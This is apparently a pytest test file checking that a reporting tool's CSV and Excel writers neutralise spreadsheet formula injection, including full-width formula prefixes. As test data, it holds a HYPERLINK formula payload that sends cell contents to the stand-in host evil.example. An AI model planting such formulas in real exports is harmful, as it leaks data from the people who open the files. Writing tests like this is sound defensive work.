"""Formulas: a text of a log that begins like one is a text in every table that leaves the house."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from audit.output import write_frame
from reports import xlsx
from reports.view import build_view
from tests.reports.province import HOSTILE, make_inputs

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"mở")'
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
"""What makes a cell a formula in some spreadsheet; the wide ones where the language is set to Japanese or Chinese."""


def test_the_danger_a_plain_writer_makes_formulas_of_texts(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.worksheets[0].append([FORMULA])
    book.save(tmp_path / "naive.xlsx")
    assert openpyxl.load_workbook(tmp_path / "naive.xlsx").worksheets[0]["A1"].data_type == "f"
    assert pd.DataFrame({"subject": [FORMULA]}).to_csv(index=False).splitlines()[1].strip('"').startswith("=")


def test_workbooks_hold_the_same_text_and_no_formula(tmp_path: Path) -> None:
    view = build_view(make_inputs())
    assert any(text.startswith("=") for text in HOSTILE)
    code = next(iter(view.agencies))
    xlsx.write_province_book(view, tmp_path / "province.xlsx")
    xlsx.write_agency_book(view.agencies[code], tmp_path / "agency.xlsx")
    found = []
    for name in ("province.xlsx", "agency.xlsx"):
        for sheet in openpyxl.load_workbook(tmp_path / name).worksheets:
            cells = [cell for row in sheet.iter_rows() for cell in row]
            assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
            found += [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith("=")]
    assert found, "the hostile texts are there, as texts"


@pytest.mark.parametrize("start", STARTS)
def test_csv_marks_every_start_of_a_formula_as_text(start: str) -> None:
    stream = io.StringIO()
    write_frame(pd.DataFrame({"subject": [f"{start}1+1"]}), "csv", stream)
    _, (cell,) = csv.reader(io.StringIO(stream.getvalue(), newline=""))
    assert cell == f"'{start}1+1"
